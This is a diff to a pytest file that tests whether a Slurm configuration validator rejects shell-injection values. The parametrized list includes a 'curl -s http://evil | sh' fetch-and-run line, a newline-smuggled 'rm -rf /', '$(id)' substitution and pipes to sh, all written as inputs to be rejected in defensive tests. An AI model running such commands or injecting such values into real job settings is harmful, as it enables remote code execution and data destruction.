@@ -170,7 +170,7 @@ def test_another_campaign_or_scene_does_not_go_on(copied):
 @pytest.mark.parametrize("wrong", [
     {"job_script_prologue": ["curl -s http://evil | sh"]}, {"queue": "a\nrm -rf /"}, {"queue": "a; b"},
     {"interface": "eth0|sh"}, {"memory": "4 GiB\n#SBATCH"}, {"walltime": "1:00:00 --wrap=x"}, {"account": "$(id)"},
-    {"constraint": "a b"}, {"job_extra_directives": ["--wrap=x"]}, {"python": "/tmp/evil"}])
+    {"constraint": "a b"}, {"job_extra_directives": ["--wrap=x"]}, {"python": "evil"}])
 def test_options_of_a_queue_are_no_shell(wrong):
     with pytest.raises(ValueError):
         Slurm.model_validate(wrong)
